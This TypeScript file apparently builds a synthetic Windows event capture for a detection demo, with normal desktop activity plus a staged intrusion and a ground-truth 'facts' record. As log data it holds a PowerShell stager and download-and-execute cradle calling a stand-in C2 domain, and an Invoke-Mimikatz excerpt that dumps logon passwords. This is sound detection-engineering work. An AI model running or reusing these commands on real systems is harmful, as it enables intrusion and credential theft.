// The demo story: 30 minutes of user alice's workstation WS-FIN-042. Normal work — Chrome browsing,
// Outlook and Teams traffic, Windows background tasks starting and exiting, DNS lookups and image
// loads — and, in the middle of it, an intrusion:
//   06:02  Outlook opens a mail attachment in Word; Word loads the VBA engine (a macro runs)
//   06:31  Word starts powershell.exe with an encoded command (4103/4104 show it) that downloads
//          and starts C:\Users\alice\AppData\Roaming\updater.exe (06:44)
//   06:50+ updater.exe beacons to its C2 every 15 s ± 20 % (connect, small send and receive, close)
//   09:12  updater.exe starts a thread inside explorer.exe (ThreadStart logged with the implant's pid)
//   10:05  updater.exe runs WMI reconnaissance queries (WMI-Activity 11, WmiPrvSE providers)
//   13:40  updater.exe starts an encoded PowerShell with an Invoke-Mimikatz script block
//   17:30  updater.exe sends 120 MB to one endpoint over 6 minutes (TCP send events)
// Everything comes from a seeded generator: the same seed gives the same events. `facts` is the
// ground truth a reader of the capture should find.
import { FILETIME_UNIX_EPOCH } from '../../common/time';
import { PowerShell, WmiActivity } from './schemas';
import { SeededRandom } from './random';
import { SECOND, Timeline, VOLUME, type ImageSpec, type Proc } from './timeline';

export const DEMO_DURATION_SECONDS = 30 * 60;
/** 2024-03-12T09:00:00Z. */
export const DEMO_START_TIME = BigInt(Date.UTC(2024, 2, 12, 9, 0, 0)) * 10_000n + FILETIME_UNIX_EPOCH;
export const DEMO_HOST = 'WS-FIN-042';
export const DEMO_USER = 'CONTOSO\\alice';
/** 120 MiB. */
export const EXFIL_BYTES = 120 * 1024 * 1024;

export interface DemoFacts {
  seed: number;
  host: string;
  user: string;
  /** FILETIME of the trace start. */
  startTime: bigint;
  durationSeconds: number;
  phishing: { outlookPid: number; wordPid: number; stagerPid: number; stagerCommandLine: string };
  implant: { pid: number; path: string; dosPath: string; parentPid: number };
  c2: {
    domain: string;
    ip: string;
    port: number;
    beaconSeconds: number[];
    intervalSeconds: number;
    jitter: number;
  };
  injection: {
    sourcePid: number;
    sourceTid: number;
    targetPid: number;
    targetName: string;
    threadId: number;
    startAddress: bigint;
  };
  encodedPowerShell: { pid: number; parentPid: number; commandLine: string; scriptBlockId: string };
  wmi: { clientPid: number; queries: string[] };
  exfil: { domain: string; ip: string; port: number; bytes: number; sends: number };
}

const s = (seconds: number) => Math.round(seconds * SECOND);
const dev = (rel: string) => `${VOLUME}\\${rel}`;
const sys32 = (name: string, kb: number): ImageSpec => ({ path: name, size: kb * 1024 });

const BASE_DLLS: ImageSpec[] = [
  sys32('ntdll.dll', 2016),
  sys32('kernel32.dll', 768),
  sys32('KernelBase.dll', 2840),
  sys32('ucrtbase.dll', 1024),
  sys32('msvcrt.dll', 632),
  sys32('advapi32.dll', 652),
  sys32('sechost.dll', 616),
  sys32('rpcrt4.dll', 1136),
  sys32('user32.dll', 1672),
  sys32('win32u.dll', 136),
  sys32('gdi32.dll', 172),
  sys32('gdi32full.dll', 1044),
  sys32('combase.dll', 3372),
  sys32('ole32.dll', 1440),
];
const NET_DLLS: ImageSpec[] = [
  sys32('ws2_32.dll', 428),
  sys32('mswsock.dll', 424),
  sys32('dnsapi.dll', 828),
  sys32('IPHLPAPI.DLL', 200),
  sys32('winhttp.dll', 1188),
  sys32('crypt32.dll', 1456),
  sys32('bcrypt.dll', 156),
];
const CHROME_DIR = 'Program Files\\Google\\Chrome\\Application';
const OFFICE_DIR = 'Program Files\\Microsoft Office\\root\\Office16';
const PS_PATH = 'Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PS_DLLS: ImageSpec[] = [
  ...BASE_DLLS,
  sys32('mscoree.dll', 436),
  { path: dev('Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll'), size: 10_560 * 1024 },
  {
    path: dev(
      'Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\8a3e1c2c0f4e6f6a9e9f1d7c3b8a2d41\\System.Management.Automation.ni.dll',
    ),
    size: 33_112 * 1024,
  },
  sys32('amsi.dll', 112),
  {
    path: dev('ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpOav.dll'),
    size: 372 * 1024,
  },
];

const SITES: readonly [string, string][] = [
  ['www.google.com', '142.250.74.36'],
  ['mail.google.com', '142.250.74.69'],
  ['fonts.gstatic.com', '142.250.74.99'],
  ['github.com', '140.82.121.4'],
  ['stackoverflow.com', '151.101.1.69'],
  ['learn.microsoft.com', '23.50.131.14'],
  ['www.bbc.co.uk', '151.101.64.81'],
  ['news.ycombinator.com', '209.216.230.207'],
  ['www.linkedin.com', '13.107.42.14'],
  ['www.wikipedia.org', '185.15.59.224'],
  ['cdn.jsdelivr.net', '151.101.193.229'],
  ['www.reuters.com', '23.47.205.14'],
];

const C2 = { domain: 'update-cdn-sync.net', ip: '203.0.113.47', port: 443 };
const EXFIL = { domain: 'fileshare-upload.net', ip: '198.51.100.23', port: 443 };
const IMPLANT_DOS_PATH = 'C:\\Users\\alice\\AppData\\Roaming\\updater.exe';
const BEACON_INTERVAL = 15;
const BEACON_JITTER = 0.2;

/** Base64 of the UTF-16LE text: what `powershell -EncodedCommand` takes. */
function encodeCommand(script: string): string {
  let bin = '';
  for (let i = 0; i < script.length; i++) {
    const c = script.charCodeAt(i);
    bin += String.fromCharCode(c & 0xff, c >>> 8);
  }
  return btoa(bin);
}

const STAGER_SCRIPT =
  `$u='https://${C2.domain}/cdn/v2/upd.bin';$p="$env:APPDATA\\updater.exe";` +
  `$c=(New-Object Net.WebClient).DownloadString($u);` +
  `[IO.File]::WriteAllBytes($p,[Convert]::FromBase64String($c));Start-Process $p`;

const MIMIKATZ_PARTS = [
  `function Invoke-Mimikatz
{
<#
.SYNOPSIS
This script leverages Mimikatz 2.0 and Invoke-ReflectivePEInjection to reflectively load Mimikatz completely in memory.
#>
[CmdletBinding(DefaultParameterSetName="DumpCreds")]
Param(
    [Parameter(Position = 0, ParameterSetName = "DumpCreds")]
    [Switch]$DumpCreds,
    [Parameter(Position = 1, ParameterSetName = "CustomCommand")]
    [String]$Command
)
Set-StrictMode -Version 2
$RemoteScriptBlock = {
    [CmdletBinding()]
    Param([String]$PEBytes64, [String]$PEBytes32, [String]$FuncReturnType, [Int32]$ProcId, [String]$ProcName, [String]$ExeArgs)
`,
  `    Function Get-Win32Functions {
        $VirtualAllocAddr = Get-ProcAddress kernel32.dll VirtualAlloc
        $WriteProcessMemoryAddr = Get-ProcAddress kernel32.dll WriteProcessMemory
        $CreateRemoteThreadAddr = Get-ProcAddress kernel32.dll CreateRemoteThread
    }
    if ([IntPtr]::Size -eq 8) { [Byte[]]$PEBytes = [Byte[]][Convert]::FromBase64String($PEBytes64) }
    else { [Byte[]]$PEBytes = [Byte[]][Convert]::FromBase64String($PEBytes32) }
    $PEBytes[0] = 0; $PEBytes[1] = 0
    Invoke-MemoryLoadLibrary -PEBytes $PEBytes -ExeArgs $ExeArgs
}
`,
  `if ($PsCmdlet.ParameterSetName -ieq "DumpCreds") { $ExeArgs = "sekurlsa::logonpasswords exit" }
$PEBytes64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu"
Invoke-Command -ScriptBlock $RemoteScriptBlock -ArgumentList @($PEBytes64, $PEBytes32, "Void", 0, "", $ExeArgs)
}
Invoke-Mimikatz -DumpCreds | Out-File -Encoding ascii "$env:TEMP\\~dfa1.tmp"
`,
];
const STAGE2_COMMAND = `IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('https://${C2.domain}/cdn/v2/m.txt'))))`;

const WMI_QUERIES = [
  'root\\SecurityCenter2 : SELECT * FROM AntiVirusProduct',
  'root\\cimv2 : SELECT * FROM Win32_ComputerSystem',
  'root\\cimv2 : SELECT * FROM Win32_OperatingSystem',
  'root\\cimv2 : SELECT Caption, ProcessId, CommandLine FROM Win32_Process',
  'root\\cimv2 : SELECT * FROM Win32_ShadowCopy',
  'root\\cimv2 : SELECT * FROM Win32_NetworkAdapterConfiguration WHERE IPEnabled = TRUE',
];

export function buildScenario(seed: number): { timeline: Timeline; facts: DemoFacts } {
  const rand = new SeededRandom(seed);
  const tl = new Timeline(rand, DEMO_START_TIME);
  const end = s(DEMO_DURATION_SECONDS);
  const boot = DEMO_START_TIME - 48n * 60n * 10_000_000n;
  const booted = (seconds: number) => boot + BigInt(seconds) * 10_000_000n;

  // Running before the trace started: the ProcessRundown at the start describes them.
  tl.existing(4, 'System', 0, 0, booted(0), 4);
  const services = tl.existing(732, dev('Windows\\System32\\services.exe'), 588, 0, booted(6), 6);
  tl.existing(748, dev('Windows\\System32\\lsass.exe'), 588, 0, booted(6), 8);
  const dcomLaunch = tl.existing(868, dev('Windows\\System32\\svchost.exe'), 732, 0, booted(7), 10);
  const dnsCache = tl.existing(1364, dev('Windows\\System32\\svchost.exe'), 732, 0, booted(9), 6);
  const winmgmt = tl.existing(2148, dev('Windows\\System32\\svchost.exe'), 732, 0, booted(11), 8);
  const schedule = tl.existing(1640, dev('Windows\\System32\\svchost.exe'), 732, 0, booted(10), 6);
  const defender = tl.existing(
    2780,
    dev('ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe'),
    732,
    0,
    booted(12),
    12,
  );
  const explorer = tl.existing(4312, dev('Windows\\explorer.exe'), 4260, 1, booted(95), 40);
  tl.existing(4188, dev('Windows\\System32\\sihost.exe'), 1640, 1, booted(94), 10);
  const oneDrive = tl.existing(
    6180,
    dev('Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe'),
    4312,
    1,
    booted(120),
    14,
  );
  tl.existing(
    5520,
    dev('Windows\\SystemApps\\MicrosoftWindows.Client.CBS_cw5n1h2txyewy\\SearchHost.exe'),
    868,
    1,
    booted(110),
    20,
  );

  // Normal work: Chrome (a browser process and its network service), Outlook, Teams.
  const chromeDlls = [
    ...BASE_DLLS,
    { path: dev(`${CHROME_DIR}\\122.0.6261.112\\chrome_elf.dll`), size: 1_512 * 1024 },
    { path: dev(`${CHROME_DIR}\\122.0.6261.112\\chrome.dll`), size: 189_000 * 1024 },
  ];
  const chrome = tl.start(s(41), explorer, 7420, dev(`${CHROME_DIR}\\chrome.exe`), chromeDlls, 18);
  const chromeNet = tl.start(
    s(42.5),
    chrome,
    7500,
    dev(`${CHROME_DIR}\\chrome.exe`),
    [...chromeDlls, ...NET_DLLS],
    8,
  );
  for (const pid of [7588, 7640, 7712])
    tl.start(s(43 + (pid % 7)), chrome, pid, dev(`${CHROME_DIR}\\chrome.exe`), chromeDlls, 10);
  const outlook = tl.start(
    s(70),
    explorer,
    8012,
    dev(`${OFFICE_DIR}\\OUTLOOK.EXE`),
    [...BASE_DLLS, ...NET_DLLS, { path: dev(`${OFFICE_DIR}\\OLMAPI32.DLL`), size: 9_800 * 1024 }],
    24,
  );
  const teams = tl.start(
    s(115),
    explorer,
    8340,
    dev('Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe'),
    [...BASE_DLLS, ...NET_DLLS],
    30,
  );

  // Chrome page visits: a lookup, a connection, requests and a burst of responses.
  for (let t = s(50); t < end - s(20); t += s(rand.range(12, 50))) {
    const [domain, ip] = rand.pick(SITES);
    const resolved = tl.dns(t, chromeNet, dnsCache, domain, ip, rand.chance(0.7));
    const c = tl.connect(resolved + s(0.01), chromeNet, ip, 443);
    let at = resolved + s(0.05);
    const requests = rand.int(1, 6);
    for (let r = 0; r < requests; r++) {
      tl.send(at, c, rand.int(400, 2600));
      const responses = rand.int(4, 60);
      for (let k = 0; k < responses; k++) {
        at += rand.int(200, 20_000);
        tl.recv(at, c, k < responses - 1 ? 1460 * rand.int(1, 44) : rand.int(100, 1460));
      }
      at += s(rand.range(0.1, 3));
    }
    tl.close(at + s(rand.range(5, 30)), c);
  }

  // Outlook: one long connection to Exchange Online, a sync every 20-60 s.
  const exo = '52.97.146.178';
  tl.dns(s(71), outlook, dnsCache, 'outlook.office365.com', exo);
  const mailbox = tl.connect(s(71.3), outlook, exo, 443);
  for (let t = s(72); t < end - s(5); t += s(rand.range(20, 60))) {
    tl.send(t, mailbox, rand.int(300, 1800));
    for (let k = rand.int(1, 12); k > 0; k--)
      tl.recv(t + rand.int(20_000, 900_000), mailbox, rand.int(200, 16_000));
  }
  // Teams: a chatty websocket, a few bytes every few seconds.
  const teamsIp = '52.113.194.132';
  tl.dns(s(116), teams, dnsCache, 'teams.microsoft.com', teamsIp);
  const chat = tl.connect(s(116.4), teams, teamsIp, 443);
  for (let t = s(117); t < end - s(5); t += s(rand.range(2, 9))) {
    if (rand.chance(0.5)) tl.send(t, chat, rand.int(60, 900));
    tl.recv(t + rand.int(10_000, 200_000), chat, rand.int(60, 4000));
  }
  // OneDrive and Defender: occasional short connections.
  for (let t = s(200); t < end; t += s(rand.range(90, 240))) {
    const c = tl.connect(t, oneDrive, '13.107.42.12', 443);
    tl.send(t + s(0.1), c, rand.int(500, 3000));
    tl.recv(t + s(0.3), c, rand.int(500, 9000));
    tl.close(t + s(2), c);
    const d = tl.connect(t + s(37), defender, '20.50.80.210', 443);
    tl.send(t + s(37.1), d, rand.int(800, 4000));
    tl.recv(t + s(37.4), d, rand.int(300, 2000));
    tl.close(t + s(38), d);
  }
  // Windows background tasks: short-lived children of service hosts.
  let backgroundPid = 9_000;
  for (let t = s(150); t < end - s(90); t += s(rand.range(100, 220))) {
    const [creator, image] = rand.pick([
      [dcomLaunch, 'Windows\\System32\\backgroundTaskHost.exe'],
      [dcomLaunch, 'Windows\\System32\\RuntimeBroker.exe'],
      [schedule, 'Windows\\System32\\taskhostw.exe'],
      [services, 'Windows\\System32\\svchost.exe'],
      [dcomLaunch, 'Windows\\System32\\smartscreen.exe'],
    ] as const);
    backgroundPid += 4 * rand.int(3, 40);
    const p = tl.start(
      t,
      creator,
      backgroundPid,
      dev(image),
      BASE_DLLS,
      rand.int(2, 8),
      creator === services ? 0 : 1,
    );
    tl.stop(t + s(rand.range(8, 80)), p);
  }

  // 06:02 the phishing document.
  const word = tl.start(
    s(362),
    outlook,
    9644,
    dev(`${OFFICE_DIR}\\WINWORD.EXE`),
    [...BASE_DLLS, { path: dev(`${OFFICE_DIR}\\WWLIB.DLL`), size: 28_600 * 1024 }],
    16,
  );
  tl.imageLoad(s(375), word, {
    path: dev('Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL'),
    size: 3_900 * 1024,
  });

  // 06:31 Word starts the stager: an encoded PowerShell that downloads and starts the implant.
  const stagerCommandLine = `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -W Hidden -enc ${encodeCommand(STAGER_SCRIPT)}`;
  const stager = tl.start(s(391), word, 9788, dev(PS_PATH), PS_DLLS, 12);
  powerShellSession(tl, s(392.5), stager, stagerCommandLine, [STAGER_SCRIPT], rand.guid());
  const downloaded = tl.dns(s(393.2), stager, dnsCache, C2.domain, C2.ip);
  const download = tl.connect(downloaded + s(0.02), stager, C2.ip, C2.port);
  tl.send(downloaded + s(0.1), download, 517);
  let at = downloaded + s(0.3);
  for (let got = 0; got < 412_000; got += 16_060) {
    at += rand.int(1000, 30_000);
    tl.recv(at, download, 16_060);
  }
  tl.close(at + s(0.2), download);

  // 06:44 the implant starts; the stager exits.
  const implant = tl.start(
    s(404),
    stager,
    10_244,
    dev('Users\\alice\\AppData\\Roaming\\updater.exe'),
    [...BASE_DLLS, ...NET_DLLS, sys32('rsaenh.dll', 260)],
    5,
  );
  tl.stop(s(408), stager);

  // 06:50 onwards: beacons every 15 s ± 20 %.
  const beaconSeconds: number[] = [];
  let lastLookup = -Infinity;
  for (
    let t = s(410);
    t < end - s(3);
    t += s(BEACON_INTERVAL * (1 + rand.range(-BEACON_JITTER, BEACON_JITTER)))
  ) {
    let connectAt = t;
    if (t - lastLookup > s(300)) {
      connectAt = tl.dns(t, implant, dnsCache, C2.domain, C2.ip) + s(0.01);
      lastLookup = t;
    }
    beaconSeconds.push(connectAt / SECOND);
    const c = tl.connect(connectAt, implant, C2.ip, C2.port);
    tl.send(connectAt + s(0.05), c, rand.int(280, 520));
    tl.recv(connectAt + s(rand.range(0.15, 0.4)), c, rand.int(150, 260));
    tl.close(connectAt + s(rand.range(0.5, 0.8)), c);
  }

  // 09:12 a remote thread in explorer.exe, created by the implant.
  const injectorTid = implant.threads[0] as number;
  const injectedTid = tl.tid();
  const injectedStart = 0x0000_01a2_b0c3_0000n;
  tl.threadStart(s(552), implant.pid, injectorTid, explorer, injectedTid, injectedStart);
  explorer.threads.push(injectedTid);

  // 10:05 WMI reconnaissance: the WMI provider host starts, then one query after another.
  const wmiPrvSe = tl.start(
    s(604),
    dcomLaunch,
    9504,
    dev('Windows\\System32\\wbem\\WmiPrvSE.exe'),
    BASE_DLLS,
    8,
    0,
  );
  tl.add(s(604.8), wmiPrvSe.pid, tl.thread(wmiPrvSe), WmiActivity.ProviderLoaded, {
    ProviderName: 'CIMWin32',
    Code: 0,
    HostProcess: 'WmiPrvSE.exe',
    ProcessID: wmiPrvSe.pid,
    ProviderPath: '%systemroot%\\system32\\wbem\\cimwin32.dll',
  });
  tl.add(s(605), wmiPrvSe.pid, tl.thread(wmiPrvSe), WmiActivity.ProviderLoaded, {
    ProviderName: 'SecurityCenter2',
    Code: 0,
    HostProcess: 'WmiPrvSE.exe',
    ProcessID: wmiPrvSe.pid,
    ProviderPath: '%systemroot%\\system32\\wbem\\wscprov.dll',
  });
  let operation = 41_200;
  const wmi = (t: number, client: Proc, user: string, query: string) => {
    const ns = query.slice(0, query.indexOf(' :'));
    tl.add(
      t,
      winmgmt.pid,
      tl.thread(winmgmt),
      WmiActivity.Operation,
      {
        CorrelationId: `{${rand.guid().toUpperCase()}}`,
        GroupOperationId: operation,
        OperationId: operation + 1,
        Operation: `Start IWbemServices::ExecQuery - ${query}`,
        ClientMachine: DEMO_HOST,
        User: user,
        ClientProcessId: client.pid,
        NamespaceName: `\\\\.\\${ns}`,
      },
      rand.guid(),
    );
    operation += 2;
  };
  let queryAt = s(605.2);
  for (const q of WMI_QUERIES) {
    wmi(queryAt, implant, DEMO_USER, q);
    queryAt += s(rand.range(0.4, 2.5));
  }
  // Ordinary WMI use by Defender and Teams, so WMI itself is not the tell.
  for (let t = s(240); t < end; t += s(rand.range(120, 300))) {
    wmi(
      t,
      rand.chance(0.5) ? defender : teams,
      rand.chance(0.5) ? 'NT AUTHORITY\\SYSTEM' : DEMO_USER,
      'root\\cimv2 : SELECT * FROM Win32_Processor',
    );
  }

  // 13:40 an encoded PowerShell started by the implant: Invoke-Mimikatz.
  const stage2CommandLine = `powershell.exe -nop -w hidden -enc ${encodeCommand(STAGE2_COMMAND)}`;
  const mimikatz = tl.start(
    s(820),
    implant,
    12_408,
    dev(PS_PATH),
    [...PS_DLLS, sys32('samlib.dll', 140), sys32('vaultcli.dll', 372)],
    10,
  );
  const scriptBlockId = rand.guid();
  powerShellSession(tl, s(821.4), mimikatz, stage2CommandLine, MIMIKATZ_PARTS, scriptBlockId);
  tl.stop(s(865), mimikatz);

  // 17:30 exfiltration: 120 MB to one endpoint in about six minutes.
  const exfilStart = tl.dns(s(1050), implant, dnsCache, EXFIL.domain, EXFIL.ip);
  const upload = tl.connect(exfilStart + s(0.02), implant, EXFIL.ip, EXFIL.port);
  let sent = 0;
  let sends = 0;
  at = exfilStart + s(0.2);
  while (sent < EXFIL_BYTES) {
    const size = Math.min(EXFIL_BYTES - sent, rand.int(32, 64) * 1024);
    tl.send(at, upload, size);
    sent += size;
    sends++;
    if (sends % 40 === 0) tl.recv(at + rand.int(5_000, 50_000), upload, rand.int(40, 120));
    at += rand.int(80_000, 240_000);
  }
  tl.close(at + s(0.5), upload);

  return {
    timeline: tl,
    facts: {
      seed,
      host: DEMO_HOST,
      user: DEMO_USER,
      startTime: DEMO_START_TIME,
      durationSeconds: DEMO_DURATION_SECONDS,
      phishing: { outlookPid: outlook.pid, wordPid: word.pid, stagerPid: stager.pid, stagerCommandLine },
      implant: { pid: implant.pid, path: implant.path, dosPath: IMPLANT_DOS_PATH, parentPid: stager.pid },
      c2: { ...C2, beaconSeconds, intervalSeconds: BEACON_INTERVAL, jitter: BEACON_JITTER },
      injection: {
        sourcePid: implant.pid,
        sourceTid: injectorTid,
        targetPid: explorer.pid,
        targetName: explorer.name,
        threadId: injectedTid,
        startAddress: injectedStart,
      },
      encodedPowerShell: {
        pid: mimikatz.pid,
        parentPid: implant.pid,
        commandLine: stage2CommandLine,
        scriptBlockId,
      },
      wmi: { clientPid: implant.pid, queries: WMI_QUERIES },
      exfil: { ...EXFIL, bytes: sent, sends },
    },
  };
}

/** What PowerShell logs for one session: console startup, the module-logging context, script blocks. */
function powerShellSession(
  tl: Timeline,
  t: number,
  p: Proc,
  commandLine: string,
  parts: readonly string[],
  scriptBlockId: string,
): void {
  const tid = p.threads[0] as number;
  tl.add(t, p.pid, tid, PowerShell.ConsoleStartupStart, {});
  tl.add(t + s(0.4), p.pid, tid, PowerShell.ConsoleStartupStop, {});
  const context =
    `        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.19041.4046\r\n` +
    `        Host ID = ${tl.rand.guid()}\r\n        Host Application = ${commandLine}\r\n        Engine Version = 5.1.19041.4046\r\n` +
    `        Runspace ID = ${tl.rand.guid()}\r\n        Pipeline ID = 1\r\n        Command Name = \r\n        Command Type = Script\r\n` +
    `        Script Name = \r\n        Command Path = \r\n        Sequence Number = 15\r\n        User = ${DEMO_USER}\r\n` +
    `        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n`;
  tl.add(t + s(0.6), p.pid, tid, PowerShell.ModuleLogging, {
    ContextInfo: context,
    UserData: '',
    Payload: 'CommandInvocation(Out-Default): "Out-Default"',
  });
  parts.forEach((text, i) => {
    tl.add(t + s(0.7) + i * 2000, p.pid, tid, PowerShell.ScriptBlock, {
      MessageNumber: i + 1,
      MessageTotal: parts.length,
      ScriptBlockText: text,
      ScriptBlockId: scriptBlockId,
      Path: '',
    });
  });
}
